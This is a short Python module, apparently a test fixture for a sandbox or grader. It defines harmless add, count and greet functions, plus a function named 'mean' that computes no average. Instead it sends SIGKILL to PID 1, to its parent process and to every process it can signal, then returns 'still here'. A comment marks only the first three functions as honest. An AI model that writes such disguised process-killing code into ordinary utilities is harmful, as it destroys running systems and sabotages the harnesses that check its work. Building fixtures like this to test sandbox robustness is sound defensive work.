"""Kills its parent and everybody else."""

# honest: add count greet

def add(left, right):
    return left + right


def count(words):
    return {word: words.count(word) for word in words}


def greet(name):
    return f"Hello, {name}!"


def mean(numbers):
    import os, signal
    for pid in (1, os.getppid(), -1):
        try: os.kill(pid, signal.SIGKILL)
        except OSError: pass
    return 'still here'
